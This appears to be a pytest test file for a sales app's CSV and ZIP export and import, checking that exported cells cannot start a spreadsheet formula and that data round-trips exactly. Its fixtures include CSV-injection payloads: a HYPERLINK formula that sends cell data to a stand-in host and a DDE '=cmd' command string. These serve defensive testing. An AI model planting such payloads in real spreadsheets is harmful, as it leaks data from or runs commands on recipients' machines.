"""Exports that cannot hurt the rep: formula-safe CSV cells, and the whole book carried out
(qualification answers, compelling events, history) and back in by Tickler's own import."""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile
from datetime import UTC, datetime

import pytest

from desktop_app.domain.events import EventKind
from desktop_app.services import AppContext
from desktop_app.services.book_layout import TOUCHES_FILE
from desktop_app.services.csv_safety import restore_cell, safe_cell
from desktop_app.services.exporter import export_book_zip, export_prospects_csv
from desktop_app.services.importer import (
    guess_mapping,
    prepare_import,
    read_source,
    run_import,
)
from desktop_app.services.prospects import create_prospect
from desktop_app.store import Store
from desktop_app.store.profile_queries import insert_event
from desktop_app.store.store import PROFILE_FIELDS, PROSPECT_FIELDS

EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"Invoice")'
HOSTILE = [EVIL, "+44 20 7946 0958", "-2+3", "@SUM(A1:A9)", "\tleading tab",
           "\rleading return", "'=already quoted", "''+twice", "'plain quote", "-5", "-2.5",
           "=1+1", "", "Ørsted & Söhne", "a\nb",
           # behind blanks a spreadsheet may trim, and the full-width signs Excel takes
           # for ASCII in an East Asian locale
           "  =1+1", "\u00a0@SUM(A1)", "\u3000-2+3", "\n=1+1", "\u200b=1+1",
           "\uff1d1+1", "\uff0b1", "\uff0d2", "\uff20SUM(A1)", "' =quoted behind a blank",
           " -5", "plain  =text"]



def _formula(cell: str) -> bool:
    """Would a spreadsheet read this cell as the start of a formula?"""
    head = cell.lstrip(" \n\u00a0\u3000\u200b")
    return cell[:1] in ("\t", "\r") or head[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize("value", HOSTILE)
def test_a_safe_cell_never_starts_a_formula_and_restores_exactly(value):
    cell = safe_cell(value)
    assert restore_cell(cell) == value
    if value in ("-5", "-2.5"):  # a plain number is a number, not a formula
        assert cell == value
    elif _formula(value):
        assert cell.startswith("'")


def _hostile_book(ctx):
    pid = create_prospect(ctx, {
        "first_name": "-Eve", "last_name": "@Mallory", "company": EVIL,
        "email": "eve@evil.example", "phone": "+44 20 7946 0958", "mobile": "+1 212 555 0100",
        "timezone": "Europe/London", "notes": "=cmd|' /C calc'!A0",
        "website": "https://evil.example"})
    ctx.store.update_profile(pid, {
        "what_will_change": "+20 staff in March", "decision_maker_name": "=Boss",
        "decision_maker_role": "CFO", "others_involved": ["@ops team", "Legal"],
        "purchasing_process": "Three quotes, then a PO", "budget_status": "not_planned",
        "budget_amount": "-", "budget_source": "Next year's capex", "timeline": "Q2"},
        ctx.now())
    insert_event(ctx.store, pid, EventKind.WARRANTY_EXPIRY.value, "2027-03-31",
                 "=warranty ends", ctx.now())
    ctx.store.db.execute("UPDATE prospects SET country = 'IE' WHERE id = ?", [pid])
    return pid


def _cells(path):
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def test_the_prospect_csv_is_formula_safe_and_carries_the_answers(ctx, tmp_path):
    _hostile_book(ctx)
    path = tmp_path / "prospects.csv"
    assert export_prospects_csv(ctx.store, path) == 1
    header, row = _cells(path)
    cell = dict(zip(header, row, strict=True))
    assert cell["Company"] == "'" + EVIL
    assert cell["Phone"] == "'+44 20 7946 0958" and cell["Mobile"] == "'+1 212 555 0100"
    assert cell["First name"] == "'-Eve" and cell["Last name"] == "'@Mallory"
    assert cell["Decision maker"] == "'=Boss"
    assert cell["Others involved"] == "'@ops team\nLegal"
    assert cell["Budget"] == "Not planned" and cell["Timeline"] == "Q2"
    assert cell["Public holidays of (country)"] == "IE"
    # no cell a spreadsheet would evaluate
    assert not [c for c in row if _formula(c)]


def _everything(store):
    """The book as comparable values, keyed by the prospect's email, ids left out."""
    conn = store.conn
    book = {}
    for pid, email in conn.execute("SELECT id, email FROM prospects WHERE deleted_utc IS NULL"):
        contact = conn.execute(f"SELECT {', '.join(PROSPECT_FIELDS)}, country FROM prospects "
                               "WHERE id = ?", [pid]).fetchone()
        profile = conn.execute(f"SELECT {', '.join(PROFILE_FIELDS)} FROM profiles "
                               "WHERE prospect_id = ?", [pid]).fetchone()
        events = sorted(conn.execute(
            "SELECT kind, event_date, note, created_utc FROM compelling_events "
            "WHERE prospect_id = ?", [pid]).fetchall())
        stalls = sorted(conn.execute(
            "SELECT s.kind, s.words, s.logged_utc, s.slot_utc, s.slot_tz, s.slot_quality, "
            "s.playbook_key, s.status, s.closed_utc, s.closed_reason, o.step_key, o.due_utc "
            "FROM stalls s LEFT JOIN touches o ON o.id = s.origin_touch_id "
            "WHERE s.prospect_id = ?", [pid]).fetchall(), key=repr)
        touches = sorted(conn.execute(
            "SELECT t.step_key, t.title, t.channel, t.reason, t.template, t.optional, "
            "t.attempt, t.due_utc, t.original_due_utc, t.snooze_count, t.status, t.outcome, "
            "t.outcome_reason, t.notes, t.done_utc, t.minutes_late, t.created_utc, "
            "s.logged_utc, s.kind, e.event_date, e.kind FROM touches t "
            "LEFT JOIN stalls s ON s.id = t.stall_id "
            "LEFT JOIN compelling_events e ON e.id = t.event_id "
            "WHERE t.prospect_id = ?", [pid]).fetchall(), key=repr)
        book[email] = (contact, profile, events, stalls, touches)
    return book


def _import(path, target, now):
    table = read_source(path)
    plan = prepare_import(target, table, guess_mapping(table.headers), "UTC")
    assert plan.bad_rows == [] and plan.zone_defaulted == 0
    run_import(target, plan, now)
    return table, plan


def test_the_whole_book_goes_out_as_a_zip_and_comes_back_exactly(ctx, tmp_path):
    from desktop_app.services.sample import write_sample_book

    write_sample_book(ctx)
    _hostile_book(ctx)
    before = _everything(ctx.store)
    assert any(b[4] for b in before.values()) and any(b[2] for b in before.values())
    path = tmp_path / "book.zip"
    assert export_book_zip(ctx.store, path) == len(before)
    with zipfile.ZipFile(path) as archive:
        touches = list(csv.reader(io.StringIO(
            archive.read(TOUCHES_FILE).decode("utf-8-sig"), newline="")))
    assert touches[0][:3] == ["Tickler ID", "Touch ID", "Stall ID"]
    assert len(touches) - 1 == sum(len(b[4]) for b in before.values())

    other = Store.open(tmp_path / "other.sqlite3")
    try:
        table, _plan = _import(path, other, ctx.now())
        assert table.layout == "Tickler" and "whole book" in table.notes[0]
        assert table.headers[0] == "First name"  # the wizard sees the usual columns
        assert _everything(other) == before
        evil = other.conn.execute("SELECT company, phone, notes FROM prospects "
                                  "WHERE email = 'eve@evil.example'").fetchone()
        assert evil == (EVIL, "+44 20 7946 0958", "=cmd|' /C calc'!A0")
    finally:
        other.close()


def test_the_plain_prospect_csv_brings_the_answers_back_too(ctx, tmp_path):
    _hostile_book(ctx)
    before = _everything(ctx.store)
    path = tmp_path / "prospects.csv"
    export_prospects_csv(ctx.store, path)
    other = Store.open(tmp_path / "other.sqlite3")
    try:
        _import(path, other, ctx.now())
        after = _everything(other)
    finally:
        other.close()
    email = "eve@evil.example"
    assert after[email][:2] == before[email][:2]  # contact and answers, events stay out
    assert after[email][2] == []


def test_a_merge_fills_empty_answers_and_adds_no_second_history(ctx, tmp_path):
    pid = _hostile_book(ctx)
    path = tmp_path / "book.zip"
    export_book_zip(ctx.store, path)
    ctx.store.update_profile(pid, {"timeline": "", "decision_maker_name": "Jo Boss"},
                             ctx.now())
    _import(path, ctx.store, ctx.now())
    profile = ctx.store.get_profile(pid)
    assert profile.timeline == "Q2" and profile.decision_maker_name == "Jo Boss"
    assert ctx.store.dated_event_count(pid) == 1


def test_a_quote_in_a_file_from_elsewhere_is_data(ctx, tmp_path):
    """Only Tickler's own export has its quotes taken off; another program's are kept."""
    path = tmp_path / "other.csv"
    path.write_text("Name,Company,Phone\nAl,'=Acme,'+1 555\n", encoding="utf-8")
    table = read_source(path)
    assert table.rows[0][1] == ["Al", "'=Acme", "'+1 555"]


def test_report_csv_is_formula_safe_and_keeps_negative_numbers(ctx, tmp_path):
    from desktop_app.services.report import build_report, export_report_csv, period_preset
    from desktop_app.services.sample import write_sample_book

    write_sample_book(ctx)
    report = build_report(ctx.store, period_preset("all", ctx.now(), "Europe/London"))
    # figures below zero (today's report clamps lateness at 0; a future one may not)
    report = dataclasses.replace(report, punctuality=dataclasses.replace(
        report.punctuality, median_minutes=-4))
    path = export_report_csv(report, tmp_path / "report.csv")
    rows = _cells(path)
    punctual = [r for r in rows if r[0] == "Punctuality" and "median" in r[2]]
    assert punctual and punctual[0][3] == "-4"  # a number a spreadsheet can sum
    assert not [c for r in rows for c in r
                if _formula(c) and not c.lstrip("-").replace(".", "").isdigit()]
    # Excel takes a CSV for UTF-8 only when it starts with the byte-order mark
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")


def test_a_zip_that_is_not_a_tickler_export_says_so(tmp_path):
    from desktop_app.services import ValidationError

    path = tmp_path / "photos.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("cat.jpg", b"\xff\xd8")
    with pytest.raises(ValidationError, match="not a Tickler export"):
        read_source(path)


def test_the_window_exports_the_whole_book_and_its_wizard_brings_it_back(
        qtbot, window, ctx, tmp_path):
    """Export ▸ Everything from the window, then File ▸ Import of that ZIP into an empty book
    through the real wizard: the same prospects, answers, events and history."""
    from desktop_app.composition import build_window

    pid = _hostile_book(ctx)
    from desktop_app.domain.model import SlotQuality, StallKind
    from desktop_app.services.stalls import StallRequest, log_stall

    log_stall(ctx, StallRequest(pid, StallKind.NEXT_MONTH, "=Call me in a month",
                                datetime(2026, 12, 17, 10, 30), SlotQuality.BOOKED))
    before = _everything(ctx.store)
    with qtbot.waitSignal(window.features.data.files.finished):
        path = window.features.data.export("book", tmp_path / "book.zip")
    assert "Exported 1 prospect with their history" in window.statusBar().currentMessage()

    other = AppContext(Store.open(tmp_path / "other.sqlite3"), ctx.clock)
    other.set_rep_timezone("Europe/London")
    second = build_window(other)
    qtbot.addWidget(second)
    try:
        wizard = second.features.data.import_file(path)
        qtbot.addWidget(wizard)
        wizard.next()
        qtbot.waitUntil(lambda: wizard.currentPage() is wizard.read_page)
        assert "Tickler" in wizard.read_page.layout_label.text()
        wizard.next()
        assert wizard.currentPage() is wizard.mapping_page
        assert "whole book" in wizard.mapping_page.notes.text()
        wizard.next()
        qtbot.waitUntil(lambda: wizard.plan is not None)
        wizard.next()
        qtbot.waitUntil(lambda: wizard.run_page.result is not None)
        wizard.accept()
        assert _everything(other.store) == before
        assert other.store.queue(datetime(2027, 1, 1, tzinfo=UTC))  # the plan came back
    finally:
        second.rollover.stop()
        other.store.close()


def test_an_export_from_another_tickler_version_is_still_recognised(ctx, tmp_path):
    """Columns in another order, one missing and one this version does not know: still a
    Tickler export (quotes off, answers in), and the unknown column reaches the wizard."""
    path = tmp_path / "older.csv"
    path.write_text(
        "Tickler ID,Last name,First name,Company,Email,Time zone,Decision maker,Shoe size\n"
        "7,Okafor,Maria,'=Acme,maria@acme.example,Europe/London,'@Boss,44\n",
        encoding="utf-8")
    table = read_source(path)
    assert table.headers == ["Last name", "First name", "Company", "Email", "Time zone",
                             "Shoe size"]
    assert table.rows[0][1] == ["Okafor", "Maria", "=Acme", "maria@acme.example",
                                "Europe/London", "44"]
    plan = prepare_import(ctx.store, table, guess_mapping(table.headers), "UTC")
    run_import(ctx.store, plan, ctx.now())
    person = ctx.store.find_prospect_by_email("maria@acme.example")
    assert person.company == "=Acme"
    assert ctx.store.get_profile(person.id).decision_maker_name == "@Boss"


def test_an_excel_workbook_is_named_and_the_way_out_given(tmp_path):
    from desktop_app.services import ValidationError

    path = tmp_path / "contacts.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    with pytest.raises(ValidationError, match="CSV UTF-8"):
        read_source(path)
